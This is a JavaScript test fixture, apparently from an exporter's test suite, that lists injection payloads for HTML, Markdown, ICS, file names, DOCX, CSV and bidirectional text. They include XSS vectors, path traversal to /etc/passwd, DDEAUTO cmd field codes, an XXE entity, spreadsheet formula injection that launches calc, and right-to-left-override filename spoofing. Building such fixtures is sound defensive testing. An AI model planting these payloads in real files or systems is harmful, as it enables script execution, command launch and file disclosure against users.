// What somebody might type, paste, import or be sent, so that a document, a calendar, a table or an archive does
// something else than show it. By the format it is aimed at; tests/node/injection.test.mjs puts each into every field
// and into every format. Harmless here: nothing of it is ever run, and no address in it exists.

const lone = "\ud800";
const nul = "\0";
/** Right-to-left override, isolate and its end: what stands behind them is read backwards. */
const [rlo, rli, pdi] = ["\u202e", "\u2067", "\u2069"];

export const HTML = [
  "<script>alert(1)</script>",
  "</td></tr></table></article><script>alert(1)</script>",
  "</p><p>另一段</p>",
  "<img src=x onerror=alert(1)>",
  "<img src=`x` onerror=alert(1)//",
  "<svg/onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<template><script>alert(1)</script></template>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<a href=javascript:alert(1)>退款</a>",
  "<a href=\"data:text/html,<script>alert(1)</script>\">",
  "<form action=//a.invalid><input name=q><button>",
  "<base href=//a.invalid/>",
  "<meta http-equiv=refresh content=0;url=//a.invalid>",
  "<link rel=stylesheet href=//a.invalid/x.css>",
  "<style>*{display:none}</style>",
  "<textarea></textarea><plaintext>",
  "<!-- ", "-->", "--!>", "<!DOCTYPE html>", "<?xml version=\"1.0\"?>", "<![CDATA[", "]]>", "<%= 1 %>", "{{constructor}}", "${7*7}", "#{1}",
  "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`", "x\" autofocus onfocus=alert(1) y=\"",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;b&amp;gt;", "&lt", "&#0;", "&NotEqualTilde;", "&;&#;&#x;",
  `<scr${nul}ipt>alert(1)</scr${nul}ipt>`, `<${lone}b>`, `${lone}<script>`, "<\u200bscript>", "＜script＞alert(1)＜/script＞", "\ufeff<script>", "<ſcript>", "<ScRiPt >x</sCrIpT\t>", "<script\n>alert(1)</script\f>",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\x1b$B<script>\x1b(B", "a\r<b>\rc", "<br><hr><h1>大</h1>",
];

export const MARKDOWN = [
  "# 标题", "###### 小标题", "#\t题", "标题\n===", "标题\n---", "标题\n\n---", "===", "***", "___", "- - -", "    四个空格的代码", "\t制表符的代码", "文\n\n    代码",
  "> 引用", ">引用\n>> 再引", "- 项", "+ 项", "* 项", "-\t项", "1. 项", "1) 项", "0. 零", "123456789. 大", "2021. 年", "- [ ] 待办", "- [x] 已办", "文\n- 项\n  - 子项", "文\n1. 项",
  "```js\nalert(1)\n```", "~~~\n代码\n~~~", "``` `", "`代码`", "``a`b``", "文 ` 文", "\\`代码\\`", "\\\\`代码`",
  "*斜*", "**粗**", "_斜_", "__粗__", "***粗斜***", "~~删~~", "~删~", "a*b*c", "a_b_c_", "==亮==", "^上^", "中*文*中", "**“粗”**字",
  "[链接](https://a.invalid)", "[链接](javascript:alert(1))", "[链接](<javascript:alert(1)>)", "[链接](data:text/html;base64,PHNjcmlwdD4=)", "[链接]( https://a.invalid \"题\")", "[链接][引]\n\n[引]: https://a.invalid", "[引]: https://a.invalid '题'", "[引]:\nhttps://a.invalid", "[链接][]", "[链接]", "[^1]\n\n[^1]: 脚注", "![图](https://a.invalid/x.png)", "![][图]\n\n[图]: https://a.invalid/x.png", "[![图](x)](y)", "!\\[图](x)", "\\[链接](x)", "\\\\[链接](x)", "[a\\](b)", "[a](b\\)", "a](b)", "](https://a.invalid)",
  "<https://a.invalid>", "<mailto:a@a.invalid>", "<a@a.invalid>", "<javascript:alert(1)>", "https://a.invalid/path?x=1&y=2", "www.a.invalid", "a@a.invalid", "http://a.invalid/<script>", "https://a.invalid](x)", "文https://a.invalid。", "ftp://a.invalid/", "javascript:alert(1)",
  "<b>粗</b>", "<!-- 注 -->", "<div>\n\n# 题\n\n</div>", "<pre>\n\n*x*", "<details><summary>x", "<?php ?>", "<!X >", "<![CDATA[x]]>", "</p>", "<x\n>", "<script>\n\nalert(1)\n\n</script>",
  "| 甲 | 乙 |\n|---|---|\n| 1 | 2 |", "甲 | 乙\n-|-\n1 | 2", "甲\n:-", "甲\n-:", "|-|", "a|b", ":---:", "甲\n|-",
  "&copy;", "&#35; 题", "&#x23;", "&nbsp;", "&lt;b&gt;", "\\", "\\\\", "文\\", "文\\\n题", "文  \n换行", "文\n\n\n另一段", "文\n \n\t\n段", "\n\n文\n\n", "文\n", "\\# 题", "\\\n# 题", "a\\\n\n# 题",
  "$x^2$", "$$\nx\n$$", ":smile:", "@everyone", "#123", "::: warning\nx\n:::", "[toc]", "---\ntitle: x\n---", "+++\ntitle = 1\n+++", "%%{init}%%", "=", "=\n=", "-", "--", "+", ":", ": 定义", "术语\n: 定义", "!", "!!", "[", "]", "(", ")", "1.", "1)", "1", "a1.", "一. 项", "１. 项", "\u00a0- 项", "\u3000# 题", " \t- 项", "\u200b# 题", "\ufeff# 题", `${nul}# 题`, "\v# 题", "\f- 项", "文\u2028# 题", "文\u2029- 项", "文\u0085# 题", "文\r# 题", "文\r\n\r\n# 题", "文\r\r- 项", "文\n\r# 题", "文\n\u3000\n# 题", "文\n\u00a0\n# 题",
];

export const ICS = [
  "文\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///bin/sh\r\nEND:VALARM", "文\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:假", "文\rATTENDEE:mailto:a@a.invalid", "END:VCALENDAR\r\n", "文\r\n BEGIN:VALARM", "文\r\n\tX:1", "\\nBEGIN:VALARM\\n", "\\NEND:VEVENT", "\\", "\\\\", "\\;", "\\,", ";TZID=x:", "a;b,c:d", "\"引号\":", "ATTENDEE;CN=\"x\":mailto:a@a.invalid", "^n^'^^", "=0D=0ABEGIN:VALARM", "%0d%0aBEGIN:VALARM", "文\u0085END:VEVENT", "文\u2028END:VEVENT", "文\u2029END:VEVENT", "文\vEND:VEVENT", "文\fEND:VEVENT", `文${nul}END:VEVENT`, `${lone}`, "长".repeat(80), "😀".repeat(40), `${"a".repeat(74)}\\`, `${"a".repeat(66)}，；\\n`, " 前后有空格 ", "\t", "URL;VALUE=URI:https://a.invalid", "X-ALT-DESC;FMTTYPE=text/html:<script>",
];

export const NAMES = [
  "../../etc/passwd", "..\\..\\windows\\system32\\a", "/etc/passwd", "//server/share", "\\\\server\\share\\a", "C:\\boot.ini", "c:boot.ini", "C:", "file:///etc/passwd", "~/.ssh/id", "~root", "a/../../b", "a/..", "a/./b", "a//b", "/", "//", "\\", ".", "..", "...", "....//....//c", "..;/a", "..%2f..%2fa", "．．／a", "‥/a", "a/‥/b", "", " ", "   ", "\u3000", "\u00a0",
  "CON", "con.txt", "PRN", "Aux.jpg", "NUL", "nul.tar.gz", "COM1", "com¹.log", "LPT9.x", "lpt³", "CONIN$", "conout$.txt", "CON .txt", "con\u200b", "c\u200bon.txt", "aux/nul/con.txt", "CON.", "NUL:", "nul::$DATA", "COM0", "a/COM1.log/b", "CLOCK$",
  "尾点.", "尾点...", "尾空格 ", "尾 . .", "a./b./c", "a /b /c", ".隐藏", "..双点", ".htaccess", ".git/config", "desktop.ini", "Thumbs.db", "-rf", "--help", "*", "?.jpg", "a|b", "a<b>c", "quo\"te", "a:b", "名:流", "a\tb", "a\nb", "a\rb", `a${nul}.jpg`, `a.exe${nul}.jpg`, "\x1b[31m红", "\u009b31m", "\x7f",
  `发票${rlo}gpj.exe`, `${rli}a${pdi}`, `${pdi}${rlo}fdp.exe`, "a\u200eb", "a\u200fb", "a\u061cb", "a\u200bb", "a\u00adb", "a\ufeffb", "a\u2060b", "a\u2028b", "\ufff9a\ufffab\ufffb", `${lone}.jpg`, "a\udc00b", "\ufffd", "é.jpg", "e\u0301.jpg", "e\u200b\u0301.jpg", "É.JPG", "ﬁ.jpg", "fi.jpg", "ｐｈｏｔｏ.jpg", "photo.jpg", "PHOTO.jpg", "photo.JPG", "photo.jpg", "photo (2).jpg", "ß", "SS", "İ", "i̇", "K", "K", "가", "가", "㊎.jpg", "金.jpg",
  `${"长".repeat(300)}.jpg`, `${"长".repeat(300)}.jpg`, "a".repeat(300), `${"a".repeat(179)}..${"b".repeat(40)}`, `${"a".repeat(178)} .${"b".repeat(40)}`, `x.${"y".repeat(300)}`, `.${"y".repeat(300)}`, `${"a/".repeat(500)}b`, `${"深/".repeat(20_000)}b`, `a${" ".repeat(100_000)}b`, `${"a".repeat(170)}${"/b".repeat(9)}`, "😀".repeat(100), "e\u0301".repeat(200), `${"\u0301".repeat(300)}`,
  "证据/01 订单.jpg", "证据", "证据/01 订单.jpg", "x/y", "x", "X/Y/z", "__proto__", "constructor", "toString", "__proto__/a", "=cmd|'/c calc'!A1.csv", "<img src=x onerror=alert(1)>.jpg", "a%00.jpg", "a&b;c$(d)`e`.jpg", "名.jpg.exe", "名.jpg      .exe",
];

export const DOCX = [
  "</w:t></w:r></w:p><w:p><w:r><w:t>另一段", "<w:br/>", "<w:fldSimple w:instr=\"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe\"/>", "{ DDEAUTO cmd \"/c calc\" }", "{INCLUDEPICTURE \"https://a.invalid/x.png\"}", "{ HYPERLINK \"https://a.invalid\" }", "\u0013 DDEAUTO cmd \u0014x\u0015", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "&x;", "&#0;", "&#x1F;", "&#xD800;", "&#xFFFE;", "]]>", "<![CDATA[x]]>", "<?mso-application progid=\"Word.Document\"?>", "<!-- x -->", "\u0001\u0002\u0007\u0008", "\u000b\u000c\u000e\u001f", "\u007f\u0080\u009f", "\ufffe\uffff", "\ufdd0", "\u{1fffe}", `${lone}`, "\udfff\ud800", "a\ud83d", "\ud83d\ude00", "a\tb\t\tc", "a\rb", "a\r\nb", "a\u0085b", "a\u2028b", "a\u2029b", "a\vb", "a\fb", "  两边  ", "\u00a0", "《 MERGEFIELD x 》", "PAGEREF", "r:id=\"rId3\"", "\" w:val=\"", "' xmlns:x='", "w:p", "_x0000_", "_x000D_",
];

export const CSV = [
  "=1+1", "=cmd|'/c calc'!A1", "=HYPERLINK(\"https://a.invalid?\"&A1,\"点\")", "=WEBSERVICE(\"https://a.invalid\")", "=IMPORTXML(\"https://a.invalid\",\"//a\")", "+1+1", "+cmd|'/c calc'!A1", "-1+1", "-2+3+cmd|'/c calc'!A1", "@SUM(1)", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", `${nul}=1+1`, "\u0001=1+1", "\u200e=1+1", `${rlo}=1+1`, "\u2028=1+1", "\v=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "\t＝1", "﹢1", "﹦1", "﹣1", "﹫A", "−1", "=", "+", "-", "@", "\t", "\r", "\n", "\"", "\"\"", "\"=1+1", "'=1+1", "\"=1+1\"", "=\"1\"", "a\",\"=1+1", "a\n=1+1", "a\r\n=1+1", "a\r=1+1", "a,=1+1", "a;=1+1", "a\t=1+1", "a|=1+1", "a\u0085=1+1", "sep=;", "sep=;\n=1+1", "a\",=1+1,\"", "\";\"=1+1", "%0A=1+1", "{=1+1}", "|cmd", "%SYSTEMROOT%", "!A1", "#REF!", "1e5", "00123", "13800138000", "1/2", "-5", "+8613800138000", "逗号,引号\"换行\n制表\t分号;", ",", ";", ",,,,", "\"\n\"", " ", `${lone}`,
];

export const BIDI = [`文${rlo}文`, `${pdi}${rlo}fdp.exe`, `${rli}文`, `文${pdi}${pdi}`, "\u202a文", "\u202b文", "\u202d文\u202c", "\u2066文", "\u2068文", `一行\n${rlo}二行`, `${rli}\n${rlo}`, "\u200f文", "\u061c文", `文${rlo}文\u202c`];

export const PAYLOADS = { HTML, MARKDOWN, ICS, NAMES, DOCX, CSV, BIDI };
